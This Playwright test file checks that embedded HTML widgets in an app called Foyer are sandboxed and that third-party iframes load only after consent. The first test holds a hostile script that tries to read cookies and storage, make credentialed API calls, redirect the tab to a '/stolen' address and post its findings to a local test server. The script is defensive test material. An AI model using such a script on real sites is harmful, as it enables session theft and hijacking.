import { type Loopback, startLoopback } from '@foyer/testing/sibling'
import { expect, test } from './fixtures.ts'
import { pickUp, putDown } from './support/mouse-drag.ts'
import { text } from './support/texts.ts'

/** A site on this computer. To the browser, `localhost` is another site than `127.0.0.1`, where Foyer is. */
async function openSite(): Promise<Loopback & { address: string; host: string }> {
  const site = await startLoopback(({ path }) => {
    const body = path.startsWith('/map') ? '<!doctype html><title>Map</title><button>Zoom in</button>' : ''
    return { headers: { 'content-type': 'text/html', 'access-control-allow-origin': '*' }, body }
  })
  const host = `localhost:${new URL(site.url).port}`
  return { ...site, host, address: `http://${host}` }
}

/** Tries to reach everything of Foyer, and reports to `address` how each attempt ended. */
const hostile = (address: string, foyer: string) => `
<h1>Harmless</h1>
<script>
  const results = {}
  const attempt = async (name, work) => {
    try { results[name] = String(await work()) } catch (error) { results[name] = 'refused' }
  }
  const all = async () => {
    await attempt('origin', () => self.origin)
    await attempt('cookie', () => document.cookie || 'none')
    await attempt('document of the page', () => parent.document.title)
    await attempt('global of the page', () => Object.keys(parent.localStorage))
    await attempt('address of the tab', () => { top.location = '${address}/stolen'; return 'led away' })
    await attempt('localStorage', () => localStorage.length)
    await attempt('sessionStorage', () => sessionStorage.length)
    await attempt('indexedDB', () => new Promise((resolve, reject) => {
      const request = indexedDB.open('foyer')
      request.onsuccess = () => resolve('opened')
      request.onerror = reject
    }))
    await attempt('caches', () => caches.keys())
    await attempt('service worker', () => navigator.serviceWorker.getRegistrations())
    await attempt('call', async () => (await fetch('${foyer}/api/users/current.json', { credentials: 'include' })).status)
    await attempt('write', async () => (await fetch('${foyer}/api/page', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' })).status)
    await attempt('dialog', () => confirm('Your password?'))
    for (let change = 0; change < 500; change += 1) parent.postMessage({ foyer_embed: 'height', height: 1e9 + change }, '*')
    parent.postMessage('ready', '*')
    await fetch('${address}/report', { method: 'POST', body: JSON.stringify(results) })
  }
  all()
</script>`

test('code that is embedded reaches nothing of Foyer', async ({ page, view, seed, foyer, context }) => {
  const site = await openSite()
  try {
    const summary = await seed.page('Board')
    const code = hostile(site.address, foyer.url)
    await seed.widget(summary, 'iframe', 'Counter', { settings: { type: 2, subtype: 'html', code, borderless: true } })
    await page.goto(`/p/${summary.public_id}`)
    const counter = view.widget('Counter')
    const show = counter.getByRole('button', { name: text('embed:show') })
    await expect(show).toBeVisible()
    // Nothing of it runs before somebody agrees.
    expect(site.requests).toEqual([])
    const calls: Promise<Record<string, string>>[] = []
    context.on('request', (request) => {
      if (/users\/current|\/api\/page$/.test(request.url()) && request.frame() !== page.mainFrame()) calls.push(request.allHeaders())
    })
    await show.click()
    await expect(counter.frameLocator('iframe').getByRole('heading', { name: 'Harmless' })).toBeVisible()
    const reported = () => site.requests.find(({ path }) => path === '/report')?.body
    await expect.poll(reported).toBeTruthy()
    const { origin, cookie, ...attempts } = JSON.parse(reported() ?? '') as Record<string, string>
    expect([origin, cookie === 'none' || cookie === 'refused']).toEqual(['null', true])
    expect(Object.entries(attempts).filter(([name, outcome]) => outcome !== (name === 'dialog' ? 'false' : 'refused'))).toEqual([])
    // Its calls come from nobody.
    expect(calls.length).toBeGreaterThan(0)
    for (const headers of await Promise.all(calls)) expect(headers).not.toHaveProperty('cookie')
    // It is heard a hundred times, and then no more.
    const height = async () => (await counter.locator('iframe').boundingBox())?.height
    await expect.poll(height).toBe(2_000)
    expect(new URL(page.url()).pathname).toContain(summary.public_id)
    expect(await page.title()).toContain('Board')
    expect(site.requests.map(({ path }) => path)).not.toContain('/stolen')
  } finally {
    await site.close()
  }
})

test(
  'a page of another site is added by keyboard, and loaded for others once they agree',
  { tag: '@deep' },
  async ({ page, view, seed, openBrowser, member }) => {
    const site = await openSite()
    try {
      const summary = await seed.page('Board')
      await page.goto(`/p/${summary.public_id}`)
      await view.button(text('content:addContent')).click()
      await view.dialog.getByRole('button', { name: text('content:addKind', { title: text('embed:kind') }) }).click()
      await expect(view.dialog.getByLabel(text('embed:code'))).toBeFocused()
      await page.keyboard.type(`<iframe title="City map" src="${site.address}/map"></iframe>`)
      await page.keyboard.press('Control+Enter')
      const zoom = { name: 'Zoom in' }
      await expect(view.widget('City map').frameLocator('iframe').getByRole('button', zoom)).toBeVisible()
      await expect.poll(async () => (await seed.widgetsOf(summary)).map(({ settings }) => settings['url'])).toEqual([`${site.address}/map`])

      // In another browser of the same person nothing is loaded before they agree; then always, if they want that.
      const elsewhere = await openBrowser(member)
      const before = site.requests.length
      await elsewhere.goto(`/p/${summary.public_id}`)
      const map = elsewhere.getByRole('article', { name: 'City map', exact: true })
      await expect(map.getByText(text('embed:willLoad', { host: site.host }))).toBeVisible()
      expect(site.requests).toHaveLength(before)
      await map.getByRole('checkbox', { name: text('embed:always', { host: site.host }) }).check()
      await map.getByRole('button', { name: text('embed:show') }).click()
      await expect(map.frameLocator('iframe').getByRole('button', zoom)).toBeVisible()
      await elsewhere.reload()
      await expect(map.frameLocator('iframe').getByRole('button', zoom)).toBeVisible()
      const [request] = site.requests
      expect(request?.headers['cookie']).toBeUndefined()
      expect(request?.headers['referer'] ?? '').not.toContain(summary.public_id)
    } finally {
      await site.close()
    }
  },
)

test('a widget is dragged over a frame of another site, however quick the pointer is', async ({ page, view, seed }) => {
  const site = await openSite()
  try {
    const summary = await seed.page('Board', 1)
    await seed.bookmarks(summary, 'Links', [['Example', 'https://example.org/']])
    const settings = { type: 0, subtype: 'page', url: `${site.address}/map`, height: 300, load: true }
    await seed.widget(summary, 'iframe', 'City map', { settings })
    await page.goto(`/p/${summary.public_id}`)
    const map = view.widget('City map')
    await expect(map.frameLocator('iframe').getByRole('button', { name: 'Zoom in' })).toBeVisible()
    const [from, to] = [await view.widget('Links').boundingBox(), await map.boundingBox()]
    if (!from || !to) throw new Error('a widget is not on the screen')
    await pickUp(page, { x: from.x + 120, y: from.y + 15 })
    // Into the middle of the frame at once, ahead of what is carried.
    await page.mouse.move(to.x + 200, to.y + 250)
    await page.mouse.move(to.x + 200, to.y + 255)
    await putDown(page)
    await expect.poll(async () => (await seed.widgetsOf(summary)).map(({ title }) => title)).toEqual(['City map', 'Links'])
  } finally {
    await site.close()
  }
})
